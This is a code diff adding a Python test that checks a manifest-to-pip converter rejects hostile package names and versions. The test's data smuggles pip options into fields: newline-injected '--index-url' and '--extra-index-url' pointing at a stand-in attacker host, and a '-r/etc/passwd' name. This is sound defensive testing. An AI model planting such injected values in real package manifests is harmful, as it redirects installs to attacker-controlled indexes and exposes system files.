@@ -132,3 +132,21 @@ def test_every_prediction_rule_is_registered_with_failure_modes() -> None:
         rule = get_rule(rule_id)
         assert rule is not None, rule_id
         assert rule.why and rule.failure_modes, rule_id
+
+
+def test_a_hostile_name_or_version_never_reaches_pip(tmp_path: Path) -> None:
+    data = json.loads(CPU.read_text(encoding="utf-8"))
+    template = next(p for p in data["packages"] if p["name"] == "pefile")
+    data["packages"] += [
+        {**template, "name": "evil\n--index-url http://attacker.invalid/simple"},
+        {**template, "name": "-r/etc/passwd"},
+        {**template, "name": "okname", "version": "1.0\n--extra-index-url http://attacker.invalid"},
+    ]
+    path = tmp_path / "hostile.json"
+    path.write_text(json.dumps(data), encoding="utf-8")
+    roots, constraints, left_out = pip_inputs(load(path))
+    passed = [(d.name, d.version) for d in roots + constraints]
+    assert not any("\n" in n or n.startswith("-") or "\n" in v for n, v in passed)
+    reasons = {d.name: d.reason for d in left_out}
+    assert "not a valid distribution name" in reasons["-r/etc/passwd"]
+    assert "not a valid version" in reasons["okname"]
